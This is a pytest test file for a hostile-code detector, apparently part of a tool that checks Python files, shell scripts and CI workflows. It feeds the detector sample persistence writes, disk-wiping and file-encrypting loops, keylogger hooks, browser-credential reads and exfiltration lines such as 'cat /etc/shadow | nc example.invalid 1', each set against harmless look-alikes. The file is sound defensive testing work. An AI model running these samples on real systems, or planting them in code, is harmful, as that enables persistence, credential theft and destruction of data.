"""What stays, destroys or disarms, and what only keeps house."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from pytest_selfmod_guard.model import Risk

if TYPE_CHECKING:
    from tests.rules.conftest import Ask

HEAD = "import os, shutil, site, sys, subprocess, winreg, requests\nfrom pathlib import Path\n"

STAYS = [
    ("open(os.path.expanduser('~/.bashrc'), 'a').write(x)", Risk.HIGH),
    ("open(os.path.expanduser('~') + '/.zshrc', mode='a+').write(x)", Risk.HIGH),
    ("with Path.home().joinpath('.profile').open('a') as f:\n    f.write(x)", Risk.HIGH),
    ("shutil.copy(x, '/etc/cron.daily/a')", Risk.HIGH),
    ("os.symlink(x, '/etc/systemd/system/a.service')", Risk.HIGH),
    ("Path(os.environ['HOME'], '.config', 'autostart', 'a.desktop').write_text(x)", Risk.HIGH),
    ("Path('~/Library/LaunchAgents/a.plist').expanduser().write_bytes(x)", Risk.HIGH),
    (
        (
            "open('C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\Start "
            "Menu\\\\Programs\\\\StartUp\\\\a.bat', 'w')"
        ),
        Risk.HIGH,
    ),
    (
        (
            "winreg.SetValueEx(winreg.CreateKey(1, 'Software\\\\Microsoft\\\\Windows\\\\Cur"
            "rentVersion\\\\Run'), 'a', 0, 1, x)"
        ),
        Risk.HIGH,
    ),
    ("open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w').write(x)", Risk.HIGH),
    ("Path('a.pth').write_text('import a')", Risk.HIGH),
    ("open(requests.__file__, 'a').write(x)", Risk.HIGH),
    ("open('/root/.ssh/authorized_keys', 'a').write(x)", Risk.HIGH),
    ("open('.git/hooks/pre-commit', 'w').write(x)", Risk.HIGH),
    ("Path.home().joinpath('.gitconfig').write_text(x)", Risk.MEDIUM),
    (
        "def install_completion():\n    open(os.path.expanduser('~/.bashrc'), 'a').write(x)",
        Risk.HIGH,
    ),
    ("open(os.path.expanduser('~/.bashrc')).read()", Risk.NONE),
    ("open('model.pth', 'wb').write(x)", Risk.NONE),
    ("shutil.copy('/etc/cron.daily/a', x)", Risk.NONE),
    ("Path('build/site/index.html').write_text(x)", Risk.NONE),
    ("open(__file__, 'a').write(x)", Risk.NONE),
]

COMMANDS = [
    "['crontab', '/tmp/jobs']",
    "['schtasks', '/create', '/tn', 'a']",
    "'reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a'",
    "['launchctl', 'load', x]",
    "'git config ' + '--global core.hooksPath ' + x",
    "'echo a >> ~/.bashrc'",
    "'net user a b /add'",
    "'useradd -o -u 0 a'",
    "'usermod -aG sudo a'",
    "['powershell', '-c', 'Set-MpPreference -DisableRealtimeMonitoring 1']",
    "'netsh advfirewall set allprofiles state off'",
    "'setenforce 0'",
    "'vssadmin delete shadows /all'",
    "'wevtutil cl System'",
    "'history -c'",
    "'taskkill /f /im MsMpEng.exe'",
    "'chmod u+s /bin/bash'",
    "'./xmrig -o a'",
    "'./a -o stratum+tcp://pool.example.invalid:1'",
    "'cat /etc/shadow | nc example.invalid 1'",
    "'curl -d @/root/.ssh/id_rsa https://example.invalid'",
    "'curl https://example.invalid/$(whoami)'",
    "'pip config set global.index-url https://example.invalid'",
    "'kill -9 -1'",
    "'security find-generic-password -wa Chrome'",
]
HARMLESS = [
    "['git', 'config', 'user.name', x]",
    "['crontab', '-l']",
    "['curl', '-fsSLo', 'a.tar.gz', x]",
    "'env | sort'",
    "['ssh', '-i', '/root/.ssh/id_rsa', x]",
    "['chmod', '755', 'build/a']",
    "['systemctl', 'restart', 'shop']",
    "['kill', '-9', pid]",
    "'useradd -m shop'",
    "['pip', 'install', '-r', 'requirements.txt']",
]

DESTROYS = [
    "for p in Path.home().rglob('*'):\n    p.unlink()",
    (
        "h = os.path.expanduser('~')\nfor a, b, c in os.walk(h):\n   "
        " for n in c:\n        os.remove(os.path.join(a, n))"
    ),
    "for p in Path('/').glob('**/*'):\n    shutil.move(p, x)",
    "for n in os.listdir('C:\\\\Users'):\n    shutil.rmtree(n)",
    (
        "for a, _, c in os.walk(x):\n    for n in c:\n        with open(os.path.join(a,"
        " n), 'wb') as f:\n            f.write(os.urandom(9))"
    ),
    (
        "from cryptography.fernet import Fernet\nfor p in Path(x).rglob('*')"
        ":\n    p.write_bytes(Fernet(k).encrypt(p.read_bytes()))\n    p.rename(str(p) + '.x')"
    ),
    (
        "from cryptography.fernet import Fernet\nfor p in Path(x).rglob('*'):\n"
        "    p.write_bytes(Fernet(k).encrypt(p.read_bytes()))"
    ),
    "open('/dev/nvme0n1', 'wb').write(x)",
    "open(r'\\\\.\\PhysicalDrive0', 'r+b').write(x)",
    "while True:\n    os.fork()",
    "while 1:\n    subprocess.Popen([sys.executable, __file__])",
    "os.kill(-1, 9)",
]
KEEPS_HOUSE = [
    (
        "from cryptography.fernet import Fernet\nfor p in Path(x).rglob('*'):\n"
        "    (Path(y) / p.name).write_bytes(Fernet(k).encrypt(p.read_bytes()))"
    ),
    "for p in Path(x).rglob('*.pyc'):\n    p.unlink()",
    "for p in (Path.home() / '.cache' / 'shop').rglob('*'):\n    p.unlink()",
    "for a, b, c in os.walk('/'):\n    print(a)",
    "with open(x, 'wb') as f:\n    f.write(os.urandom(32))",
    "from cryptography.fernet import Fernet\nPath(x).write_bytes(Fernet(k).encrypt(d))",
    "while True:\n    subprocess.run([sys.executable, x])",
    "os.kill(pid, 9)",
    "os.fork()",
    "open('/dev/null', 'wb').write(x)",
]


@pytest.mark.parametrize(("code", "risk"), STAYS)
def test_what_starts_by_itself_is_told_by_its_place(ask: Ask, code: str, risk: Risk) -> None:
    """Where it is written to, and not where it is only read."""
    found = ask("SMG225", {}, {"shop/a.py": f"{HEAD}{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


def test_hooks_may_be_installed_by_a_script_of_the_project(ask: Ask) -> None:
    """With a warning; by its product they may not."""
    code = "import shutil\nshutil.copy('a', '.git/hooks/pre-commit')\n"
    assert ask("SMG225", {}, {"scripts/a.py": code})[0].risk == Risk.MEDIUM
    assert ask("SMG225", {}, {"shop/a.py": code})[0].risk == Risk.HIGH


@pytest.mark.parametrize("command", COMMANDS)
def test_commands_of_attackers_are_found(ask: Ask, command: str) -> None:
    """As Python starts them, and as a script has them."""
    code = f"import subprocess as s\ndef a(x):\n    s.run({command})\n"
    assert max(item.risk for item in ask("SMG226", {}, {"shop/a.py": code})) >= Risk.HIGH


@pytest.mark.parametrize("command", HARMLESS)
def test_commands_of_everybody_are_silent(ask: Ask, command: str) -> None:
    """Though the same programs are started."""
    code = f"import subprocess as s\ndef a(x, pid):\n    s.run({command})\n"
    assert ask("SMG226", {}, {"shop/a.py": code}) == []


@pytest.mark.parametrize("code", DESTROYS)
def test_destruction_by_the_many_is_found(ask: Ask, code: str) -> None:
    """Whatever the loop is called."""
    found = ask("SMG227", {}, {"shop/a.py": f"{HEAD}{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) >= Risk.HIGH


@pytest.mark.parametrize("code", KEEPS_HOUSE)
def test_keeping_house_is_silent(ask: Ask, code: str) -> None:
    """One folder, one kind, one process."""
    assert ask("SMG227", {}, {"shop/a.py": f"{HEAD}{code}\n"}) == []


@pytest.mark.parametrize(
    ("code", "is_bad"),
    [
        ("shutil.rmtree(Path.home())", True),
        ("h = Path.home()\nshutil.rmtree(h)", True),
        ("for d in ('/etc', '/home'):\n    shutil.rmtree(d)", True),
        ("shutil.rmtree(os.sep)", True),
        ("shutil.rmtree('.git')", True),
        ("subprocess.run(['rm', '-rf', Path.home()])", True),
        ("shutil.rmtree(Path.home() / '.cache' / 'shop')", False),
        ("shutil.rmtree(os.path.join(x, '.git'))", False),
        ("subprocess.run(['rm', '-rf', x])", False),
        ("shutil.rmtree(x)", False),
    ],
)
def test_a_wide_path_is_known_by_any_name(ask: Ask, code: str, *, is_bad: bool) -> None:
    """Also through a variable and a loop."""
    assert bool(ask("SMG205", {}, {"shop/a.py": f"{HEAD}{code}\n"})) is is_bad


@pytest.mark.parametrize(
    ("code", "risk"),
    [
        ("from PIL import ImageGrab\nImageGrab.grab().save('a.png')", Risk.MEDIUM),
        (
            "import mss, requests\nrequests.post('https://a.example.com', data=mss.mss().grab(1))",
            Risk.HIGH,
        ),
        (
            (
                "import pyperclip, requests\nrequests.post('https://a.example.com',"
                " data=pyperclip.paste())"
            ),
            Risk.HIGH,
        ),
        ("import pyperclip\npyperclip.copy(pyperclip.paste().strip())", Risk.NONE),
        ("import pyperclip\nwhile pyperclip.paste():\n    pyperclip.copy('mine')", Risk.HIGH),
        ("import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('mine')", Risk.MEDIUM),
        ("from pynput import keyboard\nkeyboard.Listener(on_press=print)", Risk.MEDIUM),
        ("import keyboard\nkeyboard.hook(lambda e: open('a', 'a').write(e.name))", Risk.HIGH),
        (
            "import ctypes\nctypes.windll.user32.SetWindowsHookExA(13, 1, 1, 0)\nopen('a', 'a')",
            Risk.HIGH,
        ),
        ("import keyboard\nkeyboard.add_hotkey('a', print)", Risk.NONE),
    ],
)
def test_spying_is_worse_where_something_leaves(ask: Ask, code: str, risk: Risk) -> None:
    """Or is written down, or exchanged."""
    found = ask("SMG224", {}, {"shop/a.py": f"{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


@pytest.mark.parametrize(
    ("code", "is_bad"),
    [
        (
            (
                "shutil.copy(os.environ['LOCALAPPDATA'] + '\\\\Google\\\\Chrome\\\\User "
                "Data\\\\Default\\\\Login Data', x)"
            ),
            True,
        ),
        (
            (
                "Path.home().joinpath('.config/BraveSoftware/Brave-Browser/Default/Cookies'"
                ").read_bytes()"
            ),
            True,
        ),
        ("import sqlite3\nsqlite3.connect(x).execute('SELECT host, value FROM moz_cookies')", True),
        ("os.listdir(os.getenv('APPDATA') + '/discord/Local Storage/leveldb')", True),
        ("open(Path.home() / '.electrum/wallets/default_wallet')", True),
        ("import browser_cookie3 as b\nb.load()", True),
        ("print('Login Data')", False),
        ("open('cookies.json')", False),
        ("import sqlite3\nsqlite3.connect(x).execute('SELECT * FROM users')", False),
    ],
)
def test_what_others_keep_is_not_opened(ask: Ask, code: str, *, is_bad: bool) -> None:
    """By any way of putting the path together."""
    assert bool(ask("SMG228", {}, {"shop/a.py": f"{HEAD}{code}\n"})) is is_bad


@pytest.mark.parametrize(
    ("line", "risk"),
    [
        ("env | curl -d @- https://example.invalid", Risk.CRITICAL),
        ("curl -F f=@$HOME/.netrc https://example.invalid", Risk.CRITICAL),
        ("(crontab -l; echo x) | crontab -", Risk.HIGH),
        ("echo x | tee -a ~/.bashrc", Risk.HIGH),
        ("Add-MpPreference -ExclusionPath C:", Risk.CRITICAL),
        ("docker run --privileged shop", Risk.HIGH),
        ("export LD_PRELOAD=/tmp/a.so", Risk.HIGH),
        ("curl -o a https://example.com", Risk.NONE),
        ("# env | curl -d @- https://example.invalid", Risk.NONE),
        ("env | sort", Risk.NONE),
    ],
)
def test_a_script_is_judged_by_its_commands(ask: Ask, line: str, risk: Risk) -> None:
    """And a comment is none."""
    found = ask("SMG230", {}, {"scripts/a.sh": f"set -eu\n{line}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


def test_a_command_over_several_lines_is_one(ask: Ask) -> None:
    """Told by its first line; but there is an end to it."""
    found = ask("SMG230", {}, {"a.sh": "set -eu\ncat /etc/shadow \\\n  | nc example.invalid 1\n"})
    assert [item.line for item in found] == [2]
    long = "true \\\n" * 300 + "env | curl -d @- https://example.invalid\n"
    assert ask("SMG230", {}, {"a.sh": long})


@pytest.mark.parametrize(
    ("line", "risk"),
    [
        ("- run: echo '${{ toJSON(secrets) }}'", Risk.HIGH),
        ("- run: curl -d t=${{ secrets.NPM_TOKEN }} https://example.invalid", Risk.HIGH),
        ("- run: curl -d t=${{ secrets.CODECOV_TOKEN }} https://codecov.io", Risk.NONE),
        ("- run: curl -d x ${{ secrets.HOOK_URL }}", Risk.NONE),
        ("- run: echo ${{ secrets.KEY }} | base64", Risk.HIGH),
        ("- run: echo ${{ secrets.KEY }} | base64 -d > key", Risk.NONE),
        ("- uses: somebody/thing@main", Risk.MEDIUM),
        ("- uses: somebody/thing@v2", Risk.NONE),
        ("permissions: write-all", Risk.HIGH),
        ("- run: echo ${{ github.event.issue.title }}", Risk.HIGH),
    ],
)
def test_a_workflow_keeps_its_secrets(ask: Ask, line: str, risk: Risk) -> None:
    """To itself and to those that issued them."""
    found = ask("SMG231", {}, {".github/workflows/a.yml": f"on: push\n{line}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


@pytest.mark.parametrize("when", ["pull_request_target", "pull_request"])
def test_a_strangers_code_gets_no_secrets(ask: Ask, when: str) -> None:
    """It is the event that hands them out."""
    text = f"on: {when}\nref: ${{{{ github.event.pull_request.head.sha }}}}\n"
    assert bool(ask("SMG231", {}, {".github/workflows/a.yml": text})) is ("target" in when)


def test_no_line_of_a_script_is_worth_much_time() -> None:
    """A pattern that backtracks would need hours for these, and be killed."""
    code = (
        "from pytest_selfmod_guard.rules.danger._hostile import hostile\n"
        "from pytest_selfmod_guard.rules.danger._flow_marks import of_text\n"
        "for word in ('curl ', 'env | ', 'curl @', 'net user ', 'chmod "
        "777 ', '.ssh/', 'reg add ',\n"
        "             'rm ', 'user data/', 'useradd -', 'a.', '/',"
        " 'set ', 'history ', '$(', '> '):\n"
        "    hostile(word * 1_000)\n"
        "    of_text(word * 20_000)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
